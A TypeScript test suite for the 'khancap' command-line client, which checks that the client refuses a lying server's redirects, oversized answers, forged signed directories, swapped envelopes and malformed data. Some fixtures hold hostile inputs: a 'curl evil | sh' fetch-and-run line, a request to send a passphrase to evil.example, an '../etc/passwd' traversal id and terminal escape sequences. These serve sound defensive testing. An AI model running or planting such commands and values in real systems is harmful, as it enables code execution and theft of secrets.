// A server that lies: each lie is refused with a sentence, nothing is followed, nothing is written, nothing is sent. (Every
// command with every lie: lies-to-each-verb.test.ts.)
import { readdir, readFile, rm, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import t from 'tap'
import { freePort } from '../helper/free-port.js'
import { exchange } from '../../cli/client/exchange.js'
import { parseSettings } from '../../keys/handler-folder.js'
import { encodeBase64url } from '../../src/core/encoding/base64url.js'
import { sealRequest } from '../helper/api.js'
import { khancap, temporaryFolder } from '../helper/cli.js'
import {
  compressed,
  drip,
  elsewhere,
  endsEarly,
  flood,
  noHttp,
  tenGigabytes,
} from '../helper/lies.js'
import { type Lie, lyingServer, says } from '../helper/lying-server.js'
import { testOrganisation } from '../helper/organisation.js'
import { detail, list, type Scene, scene, summary } from '../helper/scene.js'
import { caseId } from '../helper/store.js'

t.setTimeout(300_000)

/** Names and contents of everything in the folder. */
async function remembered(folder: string): Promise<Record<string, string>> {
  const names = (await readdir(folder, { recursive: true, withFileTypes: true }))
    .filter(file => file.isFile())
    .map(file => join(file.parentPath, file.name))
  const contents = await Promise.all(names.map(name => readFile(name, 'base64')))
  return Object.fromEntries(names.map((name, index) => [name, contents[index] ?? '']))
}

const lies: readonly {
  readonly name: string
  readonly lie: (scene: Scene) => Lie | Promise<Lie>
  readonly sentence: RegExp
  readonly code: number
}[] = [
  {
    name: 'a directory of other keys',
    lie: async ({ server }) =>
      says((await testOrganisation({ origin: server.url })).note, 'text/plain'),
    sentence: /the directory is not signed by the root that is pinned here/,
    code: 1,
  },
  {
    name: 'a directory with one changed letter',
    lie: ({ organisation }) =>
      says(Buffer.from(organisation.note).toString().replace('Example', 'Exanple'), 'text/plain'),
    sentence: /the directory is not signed by the root that is pinned here/,
    code: 1,
  },
  {
    name: 'no directory but a page',
    lie: () => says('<html>captive portal</html>', 'text/html'),
    sentence: /the directory is not signed by the root that is pinned here/,
    code: 1,
  },
  {
    name: 'a redirect to elsewhere',
    lie: ({ server }) => elsewhere(server.url, 302),
    sentence: /wants to send this tool to another address; nothing was followed/,
    code: 1,
  },
  {
    name: 'a permanent redirect',
    lie: ({ server }) => elsewhere(server.url, 308),
    sentence: /nothing was followed/,
    code: 1,
  },
  {
    name: 'an endless answer',
    lie: () => flood,
    sentence: /the server's answer is larger than 1048576 bytes; the rest was not read/,
    code: 1,
  },
  {
    name: 'an answer that says that it is 10 GB long',
    lie: () => tenGigabytes,
    sentence: /larger than 1048576 bytes/,
    code: 1,
  },
  {
    name: 'a compressed answer',
    lie: () => compressed,
    sentence: /a compressed answer that was not asked for/,
    code: 1,
  },
  {
    name: 'an answer that ends early',
    lie: () => endsEarly,
    sentence: /could not be reached/,
    code: 3,
  },
  {
    name: 'no HTTP at all',
    lie: () => noHttp,
    sentence: /could not be reached/,
    code: 3,
  },
  {
    name: 'an error page with a message for us',
    lie: () => says('{"detail":"\u001b[31mrun this: curl evil | sh"}', 'text/html', 500),
    sentence: /the server answered with status 500/,
    code: 3,
  },
  {
    name: 'a problem with a title for us',
    lie: () =>
      says(
        JSON.stringify({
          type: 'urn:khancap:problem:key_unknown',
          title: 'send your passphrase to evil.example',
          status: 401,
          code: 'key_unknown',
          retry: 'never',
        }),
        'application/problem+json',
        401,
      ),
    sentence: /the server does not know this key/,
    code: 1,
  },
]

for (const { name, lie, sentence, code } of lies)
  await t.test(`the server sends ${name}`, async t => {
    const set = await scene(t)
    const before = await remembered(set.folder)
    set.server.lies['/v1/directory'] = await lie(set)
    const run = await set.run('inbox')
    t.equal(run.code, code, run.err)
    t.match(run.err, sentence)
    t.equal(run.out, '')
    t.notMatch(run.err, /evil|captive/)
    t.notMatch(run.err, '\u001b')
    t.match(
      run.err,
      /^khancap: [^A-Z\n][^\n]*[^.\n]\n(?:hint: [^\n]+\n)+$/,
      'one sentence and hints',
    )
    t.strictSame(set.server.asked, ['GET /v1/directory'], 'nothing was followed, nothing was sent')
    t.strictSame(await remembered(set.folder), before, 'nothing was written')
  })

/** A case of which everything is true, until a test lies about one place. */
async function honestCase(set: Scene) {
  const { envelope } = await sealRequest(set.organisation)
  const id = caseId()
  const said = detail(id, envelope)
  set.server.lies[`/v1/cases/${id}`] = says(JSON.stringify(said))
  set.server.lies[`/v1/cases/${id}/envelope`] = says(envelope, 'application/octet-stream')
  for (const verb of ['claim', 'replies', 'notes'])
    set.server.lies[`/v1/cases/${id}/${verb}`] = says(JSON.stringify(said.case))
  return id
}

/** What each command asks last, and so gets its answer from. */
const asking: readonly {
  readonly verb: string
  readonly stdin?: string
  readonly place: string
  readonly method: 'GET' | 'POST'
  /** Bytes that are read of an answer. */
  readonly bytes: number
  /** Another case than the one that was asked for. */
  readonly other: RegExp
}[] = [
  {
    verb: 'open',
    place: '',
    method: 'GET',
    bytes: 67_108_864,
    other: /the server sent another case than/,
  },
  ...(['claim', 'reply', 'note'] as const).map(verb => ({
    verb,
    ...(verb === 'claim' ? {} : { stdin: 'words for somebody' }),
    place: `/${{ claim: 'claim', reply: 'replies', note: 'notes' }[verb]}`,
    method: 'POST' as const,
    bytes: 1_048_576,
    other: /the server answered about another case than/,
  })),
]

for (const { bytes, method, other, place, stdin, verb } of asking)
  await t.test(`what ${verb} asks for is answered with a lie`, async t => {
    const set = await scene(t)
    const id = await honestCase(set)
    const path = `/v1/cases/${id}${place}`
    const run = () =>
      khancap([verb, id], { folder: set.folder, ...(stdin === undefined ? {} : { stdin }) })
    const truth = set.server.lies[path]
    const honest = await run()
    t.equal(honest.code, 0, honest.err)
    const before = await remembered(set.folder)
    const stranger = summary(caseId())
    const lied: readonly (readonly [name: string, lie: Lie, sentence: RegExp, code?: number])[] = [
      ['a redirect', elsewhere(set.server.url, 302), /to another address; nothing was followed/],
      ['a permanent redirect', elsewhere(set.server.url, 308), /nothing was followed/],
      ['an endless answer', flood, new RegExp(`larger than ${bytes} bytes`)],
      [
        'another case',
        says(JSON.stringify(verb === 'open' ? detail(stranger.id, Buffer.from('x')) : stranger)),
        other,
      ],
      ['half of a document', says('{"id":'), /not in the form of this service/],
      ['a page', says('<p>sign in</p>', 'text/html'), /not in the form of this service/],
      ['an error', says('evil', 'text/html', 500), /answered with status 500/, 3],
    ]
    for (const [name, lie, sentence, code = 1] of lied) {
      if (truth !== undefined) set.server.lies[path] = lie
      set.server.asked.length = 0
      const refused = await run()
      t.equal(refused.code, code, `${name}: ${refused.err}`)
      t.match(refused.err, sentence, name)
      t.match(refused.err, /\nhint: /, name)
      t.equal(refused.out, '', name)
      t.notMatch(refused.err, /evil|sign in/, name)
      t.notOk(refused.err.includes(stranger.id), name)
      t.equal(set.server.asked.at(-1), `${method} ${path}`, `${name}: nothing was followed`)
      const after = await remembered(set.folder)
      // The answer that was sealed is kept, so that it is sent once: sealed, and nothing else is written.
      if (verb === 'reply') {
        const draft = join(set.folder, 'drafts', `${id}.json`)
        t.ok(draft in after, name)
        t.notOk(Buffer.from(after[draft] ?? '', 'base64').includes('words for'), name)
        await rm(draft)
        delete after[draft]
      }
      t.strictSame(after, before, `${name}: nothing was written`)
    }
  })

await t.test('a slow drip ends with the deadline of the whole exchange', async t => {
  const server = await lyingServer(t, { '*': drip })
  const began = Date.now()
  const request = {
    method: 'GET',
    url: server.url,
    headers: {},
    body: null,
    maxBytes: 1000,
  } as const
  await t.rejects(exchange(request, { proxy: null, seconds: 1 }), {
    name: 'Failure',
    message: 'the server did not finish its answer within 1 seconds',
  })
  t.ok(Date.now() - began < 5000)
})

await t.test('the size of an answer counts: at the bound, and one over', async t => {
  const server = await lyingServer(t, {
    '/at': says('a'.repeat(1000)),
    '/over': says('a'.repeat(1001)),
  })
  const request = { method: 'GET', headers: {}, body: null, maxBytes: 1000 } as const
  const at = await exchange({ ...request, url: `${server.url}/at` }, { proxy: null })
  t.equal(at.body.length, 1000)
  await t.rejects(exchange({ ...request, url: `${server.url}/over` }, { proxy: null }), {
    name: 'Failure',
    message: "the server's answer is larger than 1000 bytes; the rest was not read",
  })
})

await t.test(
  'an older directory, a fork, and another deployment are refused once a newer one was seen',
  async t => {
    const { folder, organisation, run, server } = await scene(t)
    server.lies['/v1/cases'] = list([])
    const first = await organisation.verify(organisation.note)
    const second = await organisation.sign({ name: 'Second' }, first)
    const verified = await organisation.verify(second)
    server.lies['/v1/directory'] = says(second, 'text/plain')
    t.equal((await run('inbox')).code, 0)
    const settings = async () =>
      parseSettings(await readFile(join(folder, 'settings.json'), 'utf8'))
    t.equal((await settings()).highest_sequence, 2)

    const chained = { sequence: 3, previous: encodeBase64url(new Uint8Array(32)) }
    const refusals: readonly [string, Uint8Array, RegExp][] = [
      ['older', organisation.note, /an old directory: number 1, although number 2 was seen before/],
      ['forked', await organisation.sign({ name: 'Other' }, first), /does not follow the one/],
      ['unchained', await organisation.sign({ ...chained }), /does not follow the one/],
      [
        'elsewhere',
        await organisation.sign({ origin: 'https://elsewhere.example' }, verified),
        /another deployment \(https:\/\/elsewhere\.example\)/,
      ],
    ]
    for (const [name, note, sentence] of refusals) {
      server.lies['/v1/directory'] = says(note, 'text/plain')
      server.asked.length = 0
      const { code, err } = await run('inbox')
      t.equal(code, 1, name)
      t.match(err, sentence)
      t.strictSame(server.asked, ['GET /v1/directory'])
      t.equal((await settings()).highest_sequence, 2)
    }
    // The memory stands in the settings: without the note it holds all the same.
    await rm(join(folder, 'directory.note'))
    server.lies['/v1/directory'] = says(organisation.note, 'text/plain')
    t.equal((await run('inbox')).code, 1)

    const third = await organisation.sign({ minimum_client: 2 }, verified)
    server.lies['/v1/directory'] = says(third, 'text/plain')
    t.match((await run('inbox')).err, /asks for a newer khancap/)
  },
)

await t.test('a list that is not in the form of this service is refused', async t => {
  const { run, server } = await scene(t)
  const good = summary(caseId())
  const wrong: Record<string, Lie> = {
    'not JSON': says('{'),
    'a page': says('<html>', 'text/html'),
    'another shape': says('{}'),
    'an unknown key': says(JSON.stringify({ now: good.received_at, cases: [], next: null, x: 1 })),
    'a key that comes twice': says(
      '{"now":"2026-01-01T00:00:00Z","now":"2026-01-01T00:00:00Z","cases":[],"next":null}',
    ),
    'an id that is a path': list([{ ...good, id: '../../../../etc/passwd0000' }]),
    'a state that does not exist': list([{ ...good, state: 'done' }]),
    'bytes that are no text': says(Uint8Array.of(0x7b, 0xff, 0x7d)),
    'deep nesting': says(`${'['.repeat(100_000)}${']'.repeat(100_000)}`),
    'an escape sequence for a team': list([{ ...good, team: '\u001b[2J' }]),
  }
  for (const [name, lie] of Object.entries(wrong)) {
    server.lies['/v1/cases'] = lie
    const { code, err, out } = await run('inbox')
    t.equal(code, 1, name)
    t.match(err, "khancap: the server's answer is not in the form of this service", name)
    t.equal(out, '')
  }
})

await t.test('two cases that begin alike are told apart by more letters', async t => {
  const { run, server } = await scene(t)
  const one = caseId()
  const other = `${one.slice(0, 10)}${caseId().slice(10)}`
  server.lies['/v1/cases'] = list([summary(one), summary(other)])
  server.asked.length = 0
  const { code, err } = await run('claim', one.slice(0, 6))
  t.equal(code, 1)
  t.match(err, `khancap: 2 cases begin with "${one.slice(0, 6)}"\nhint: give more letters: ${one}`)
  t.notOk(server.asked.some(line => line.startsWith('POST')))
})

await t.test('a list without end is not searched for ever', async t => {
  const { run, server } = await scene(t)
  server.lies['/v1/cases'] = says(
    JSON.stringify({ now: '2026-01-01T00:00:00Z', cases: [], next: 'again' }),
  )
  const { code, err } = await run('claim', 'abcd')
  t.equal(code, 3)
  t.match(err, 'there are too many cases')
  t.ok(server.asked.length < 40)
})

await t.test('another envelope than the one of the case is never shown', async t => {
  const { organisation, run, server } = await scene(t)
  const [one, other] = [
    await sealRequest(organisation),
    await sealRequest(organisation, { canary: 'other words' }),
  ]
  const id = caseId()
  const serve = (said: object, envelope: Uint8Array, under = id) => {
    server.lies[`/v1/cases/${under}`] = says(JSON.stringify(said))
    server.lies[`/v1/cases/${under}/envelope`] = says(envelope, 'application/octet-stream')
  }
  serve(detail(id, one.envelope), one.envelope)
  t.equal((await run('open', id)).code, 0, 'the truth is shown')

  serve(detail(id, one.envelope), other.envelope)
  const swapped = await run('open', id)
  t.equal(swapped.code, 1)
  t.match(swapped.err, 'another envelope than the one of case')
  t.notMatch(swapped.out + swapped.err, 'other words')

  serve(detail(caseId(), one.envelope), one.envelope)
  t.match((await run('open', id)).err, 'the server sent another case than')

  serve(detail(id, other.envelope), other.envelope)
  for (const verb of [
    ['open', id],
    ['reply', id],
  ]) {
    const exchanged = await run(...verb)
    t.equal(exchanged.code, 1, 'also where the server is consistent in its lie')
    t.match(exchanged.err, 'the server serves another request under case')
    t.notMatch(exchanged.out + exchanged.err, 'other words')
  }

  const damaged = one.envelope.map((byte, at) => (at === one.envelope.length - 1 ? byte ^ 1 : byte))
  const second = caseId()
  serve(detail(second, damaged), damaged, second)
  t.match((await run('open', second)).err, 'the sealed file is damaged')

  const foreign = await sealRequest(organisation, {
    envelope: { origin: 'https://elsewhere.example' },
  })
  const third = caseId()
  serve(detail(third, foreign.envelope), foreign.envelope, third)
  t.match((await run('open', third)).err, 'the sealed file is damaged, or not what it claims to be')

  const wrongDirectory = await sealRequest(organisation, {
    envelope: { directory_sha256: encodeBase64url(new Uint8Array(32)) },
  })
  const fourth = caseId()
  serve(detail(fourth, wrongDirectory.envelope), wrongDirectory.envelope, fourth)
  t.match(
    (await run('open', fourth)).err,
    'the sealed file is damaged, or not what it claims to be',
  )

  const notMine = await sealRequest(organisation, { team: 'china' })
  const fifth = caseId()
  serve(detail(fifth, notMine.envelope), notMine.envelope, fifth)
  const unread = await run('open', fifth)
  t.equal(unread.code, 1)
  t.match(unread.err, 'is not sealed to this identity')
  t.match(
    unread.err,
    `hint: ask a colleague who can open it (vietnam-2, vietnam-lead, intake-1, director-1): khancap add-reader ${fifth.slice(0, 8)}`,
  )
})

await t.test(
  'a history without signatures, and an answer that nobody signed, are shown with warnings',
  async t => {
    const { organisation, run, server } = await scene(t)
    const one = await sealRequest(organisation)
    const id = caseId()
    const zero = (bytes: number) => encodeBase64url(new Uint8Array(bytes))
    server.lies[`/v1/cases/${id}/envelope`] = says(one.envelope, 'application/octet-stream')
    server.lies[`/v1/cases/${id}`] = says(
      JSON.stringify(
        detail(id, one.envelope, {
          answer: { hour: '2026-01-01T00:00:00Z', signature: zero(64), key: zero(32) },
          events: [
            {
              number: 1,
              kind: 'replied',
              at: '2026-01-01T00:00:00Z',
              handler: 'vietnam-1',
              detail: '\u202e',
              request: null,
              previous: null,
              hash: zero(32),
            },
          ],
          grants: [
            {
              id: zero(16),
              reader: 'china-1',
              header: zero(100),
              by: 'vietnam-1',
              signature: zero(64),
              key: zero(32),
              at: '2026-01-01T00:00:00Z',
            },
          ],
        }),
      ),
    )
    const opened = await run('open', id, '--json')
    t.equal(opened.code, 0, opened.err)
    const codes = JSON.parse(opened.out).warnings.map(({ code }: { code: string }) => code)
    for (const code of ['history_broken', 'signature_false', 'answer_proof_false'])
      t.ok(codes.includes(code), code)
    const words = await run('open', id)
    t.match(words.out, 'NOT SIGNED BY THEM')
    t.notMatch(words.out, '\u202e')
  },
)

await t.test(
  'a part that is not the listed one, or is missing, is said and hides nothing',
  async t => {
    const { organisation, run, server } = await scene(t)
    const one = await sealRequest(organisation, { canary: 'the request' })
    const id = caseId()
    const part = (at: number) => encodeBase64url(Buffer.alloc(16, at))
    const listed = (at: number) => ({
      id: part(at),
      at: '2026-01-01T00:00:00Z',
      bytes: 1,
      sha256: encodeBase64url(new Uint8Array(32)),
      by: 'vietnam-1',
    })
    const said = detail(id, one.envelope, { notes: [listed(1), listed(2)] })
    server.lies[`/v1/cases/${id}`] = says(JSON.stringify(said))
    server.lies[`/v1/cases/${id}/envelope`] = says(one.envelope, 'application/octet-stream')
    server.lies[`/v1/cases/${id}/notes/${part(1)}`] = says('other', 'application/octet-stream')
    const opened = await run('open', id, '--json')
    t.equal(opened.code, 0, opened.err)
    const shown = JSON.parse(opened.out)
    t.match(JSON.stringify(shown.content), 'the request')
    t.strictSame(
      shown.notes.map((note: { not_shown?: string }) => note.not_shown),
      ['not_as_listed', 'not_fetched'],
    )
    t.equal((await run('bundle', '--out', join(await temporaryFolder(t), 'b'), id)).code, 1)
  },
)

await t.test('init writes nothing before the directory has verified', async t => {
  const { server } = await scene(t)
  const folder = join(await temporaryFolder(t), 'new')
  const root = '00'.repeat(32)
  const run = await khancap(['init', '--url', server.url, '--root', root], { folder })
  t.equal(run.code, 1)
  t.match(run.err, 'the directory is not signed by the root of this fingerprint')
  t.match(run.err, 'hint: row 4 as you gave it: 0000 0000 0000 0000')
  t.match(run.err, 'stop, and call the organisation: this is not its server')
  await t.rejects(readdir(folder), { code: 'ENOENT' })
})

await t.test(
  'init tells a mistyped digit from another server, and shows no digit of it',
  async t => {
    const { organisation, server } = await scene(t)
    const folder = join(await temporaryFolder(t), 'new')
    const changed = (count: number) =>
      Array.from(organisation.root)
        .map((digit, at) => (at < 16 + count && at >= 16 ? (digit === '0' ? '1' : '0') : digit))
        .join('')
    const init = (root: string) =>
      khancap(['init', '--url', server.url, '--root', root], { folder })
    const slip = await init(changed(4))
    t.equal(slip.code, 1)
    t.match(slip.err, 'hint: row 2 differs from the directory by a few digits')
    t.equal(slip.err.match(/^hint: /gm)?.length, 1)
    const other = await init(changed(5))
    t.equal(other.code, 1)
    t.notMatch(other.err, 'differs from the directory')
    t.match(other.err, 'stop, and call the organisation')
    for (const row of organisation.root.match(/.{16}/g)?.slice(1, 2) ?? [])
      t.notMatch((slip.err + other.err).replaceAll(' ', ''), row)
    t.equal((await init(organisation.root.replaceAll('0', 'O').replaceAll('1', 'l'))).code, 0)
  },
)

await t.test('nobody answers at the address', async t => {
  const { folder, server, run } = await scene(t)
  const settings = join(folder, 'settings.json')
  const text = await readFile(settings, 'utf8')
  await writeFile(settings, text.replace(server.url, `http://127.0.0.1:${await freePort()}`))
  const { code, err } = await run('inbox')
  t.equal(code, 3)
  t.match(err, /could not be reached \(ECONNREFUSED\)\nhint: /)
})
